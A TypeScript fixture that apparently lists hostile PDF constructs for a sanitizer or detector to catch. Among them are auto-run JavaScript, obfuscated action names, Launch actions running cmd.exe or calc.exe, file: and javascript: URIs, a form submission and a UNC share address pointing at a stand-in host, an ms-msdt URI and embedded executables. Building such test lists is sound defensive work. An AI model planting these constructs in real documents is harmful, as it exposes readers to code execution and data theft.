/** Something that a document must not do or carry, and what leads to it. */
export interface HostileContent {
  name: string
  /** Keys of the catalogue and of the page that lead to object 9. */
  catalog?: string
  page?: string
  /** Object 9. */
  target: string
  /** Further objects, from 20 on, which are inert by themselves. */
  more?: Readonly<Record<number, string>>
}

const RECT = '/Rect [0 0 90 90]'
const script = (code: string): string => `<< /S /JavaScript /JS (${code}) >>`
const onOpening = (name: string, target: string): HostileContent => ({
  name,
  catalog: '/OpenAction 9 0 R',
  target,
})
const onClick = (name: string, target: string): HostileContent => ({
  name,
  page: `/Annots [<< /Type /Annot /Subtype /Link ${RECT} /A 9 0 R >>]`,
  target,
})
const annotation = (name: string, target: string): HostileContent => ({
  name,
  page: '/Annots [9 0 R]',
  target: `<< /Type /Annot ${RECT} ${target} >>`,
})
const utf16 = (text: string): string =>
  `<FEFF${Buffer.from(text, 'utf16le').swap16().toString('hex')}>`

export const CONTENTS: readonly HostileContent[] = [
  onOpening('script on opening', script('app.alert1')),
  onOpening('script under an escaped name', '<< /S /J#61vaScript /#4AS (1) >>'),
  onOpening('script under a name that ends early', '<< /S /JavaScript#00a /JS (1) >>'),
  onOpening('program started', '<< /S /Launch /F (calc.exe) >>'),
  onOpening('program started on Windows', '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'),
  onOpening('javascript: address on opening', '<< /S /URI /URI (javascript:alert1) >>'),
  onOpening('file: address on opening', '<< /S /URI /URI (file:///etc/passwd) >>'),
  onOpening('form sent', '<< /S /SubmitForm /F (http://203.0.113.7/) >>'),
  onOpening('data imported', '<< /S /ImportData /F (a.fdf) >>'),
  onOpening('another document', '<< /S /GoToR /F (b.pdf) /D [0 /Fit] >>'),
  onOpening('document within', '<< /S /GoToE /T << /R /C /N (a) >> /D [0 /Fit] >>'),
  onOpening('media played', '<< /S /Rendition /OP 0 /R << /S /MR /C << /D (a.mp4) >> >> >>'),
  onOpening('sound played', '<< /S /Sound /Sound 20 0 R >>'),
  onOpening('script after a jump', `<< /S /GoTo /D [3 0 R /Fit] /Next ${script('1')} >>`),
  onClick('script on a click', script('1')),
  onClick(
    'javascript: address in sixteen bits',
    `<< /S /URI /URI ${utf16('javascript:alert(1)')} >>`,
  ),
  onClick('javascript: address behind blanks', '<< /S /URI /URI (\\t java\\nscript:alert1) >>'),
  onClick('file: address on a click', '<< /S /URI /URI (file:///C:/Users/a.exe) >>'),
  onClick('code of a telephone', '<< /S /URI /URI (tel:*%2306%23) >>'),
  onClick('address of a share', '<< /S /URI /URI (\\\\\\\\203.0.113.7\\\\a) >>'),
  onClick('address of a program', '<< /S /URI /URI (ms-msdt:/id PCWDiagnostic) >>'),
  annotation('attached file', '/Subtype /FileAttachment /FS << /F (a.exe) >>'),
  annotation('rich media', '/Subtype /RichMedia /RichMediaContent << /Assets << >> >>'),
  annotation('film', '/Subtype /Movie /Movie << /F (a.avi) >>'),
  annotation(
    'field that calculates',
    `/Subtype /Widget /FT /Tx /T (a) /AA << /C ${script('1')} >>`,
  ),
  { name: 'script of a page', page: '/AA 9 0 R', target: `<< /O ${script('1')} >>` },
  {
    name: 'script by name',
    catalog: '/Names << /JavaScript 9 0 R >>',
    target: `<< /Names [(a) ${script('1')}] >>`,
  },
  {
    name: 'files by name',
    catalog: '/Names 9 0 R',
    target: '<< /EmbeddedFiles << /Names [(a) << /F (a.exe) >>] >> >>',
  },
  {
    name: 'file of the document',
    catalog: '/AF [9 0 R]',
    target: '<< /Type /Filespec /F (a.exe) /EF << /F 20 0 R >> >>',
    more: { 20: '<< /Params << /Size 2 >> >>' },
  },
  { name: 'XFA form', catalog: '/AcroForm 9 0 R', target: '<< /Fields [] /XFA [(a) (b)] >>' },
  {
    name: 'script of the outline',
    catalog: '/Outlines << /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>',
    target: `<< /Title (a) /A ${script('1')} >>`,
  },
]
